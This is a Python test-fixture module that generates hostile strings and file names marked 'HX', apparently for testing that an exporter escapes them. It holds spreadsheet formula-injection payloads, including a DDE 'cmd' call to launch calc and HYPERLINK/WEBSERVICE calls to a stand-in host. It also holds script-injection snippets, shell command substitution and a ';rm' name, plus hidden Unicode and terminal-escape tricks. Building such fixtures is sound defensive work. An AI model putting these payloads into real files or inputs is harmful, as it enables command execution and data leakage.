"""Texts and file names that want to be more than text, each with the sign by which it is known again in an output."""

from __future__ import annotations

from itertools import product

SIGN = "HX"
_STARTS = (
    "=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "'=", '"=', "=-", "==", "\n=", ";=", ",=", "%", "|", "#",
)  # fmt: skip
_ENDS = (
    "cmd|' /C calc'!A0 {0}", 'HYPERLINK("http://x.example/{0}","{0}")', "1+1+{0}", "WEBSERVICE(\"http://x.example/{0}\")",
    "SUM({0}A1:A9)",
)  # fmt: skip
_OTHERS = (
    "http://x.example/{0}", "file:///x/{0}", "mailto:a@x.example?{0}", "internal:Sheet1!A1 {0}", "external:x.xlsx {0}",
    "\\\\x.example\\share\\{0}", "<script>alert({0})</script>", "<img src=x onerror={0}>", "</td></table>{0}",
    "&lt;b&gt;{0}", "{{{0}}}", "%s%n{0}", "$({0})", "`{0}`", "${{{0}}}", "[link={0}]x[/link]", "[bold red]{0}[/]",
    "_x001B_]8;;http://x.example_x0007_{0}", "_x001B_[31m{0}_x001B_[0m", "_x0000_{0}", "_x000D_=1+{0}", "\u202e{0}xslx",
    "\u200b={0}", "\ufeff=1+{0}", "{0}\u2028=1+1", "&C&P{0}", "[1]Sheet1!{0}", "{{={0}}}", "=A1{0}\n=B1", "'{0}'!A1",
)  # fmt: skip
NAMES: tuple[str | bytes, ...] = (
    "=cmd {0}.xlsx", "-rf {0}.xlsx", "@{0}.xlsx", "+{0}.xlsx", "a\n={0}.xlsx", "\u202e{0}.xlsx", "\x1b[31m{0}.xlsx",
    "<b>{0}<b>.xlsx", "'{0}'.xlsx", "%s{0}.xlsx", "$({0}).xlsx", "{0};rm.xlsx", "{{{0}}}.xlsx", "\u0085{0}.xlsx",
    b"\xbb\xb5\xb3\xa4{0}.xlsx",
)  # fmt: skip


def texts() -> list[str]:
    """At least a hundred hostile texts, every one with the sign in it."""
    return [(start + end).format(SIGN) for start, end in product(_STARTS, _ENDS)] + [o.format(SIGN) for o in _OTHERS]
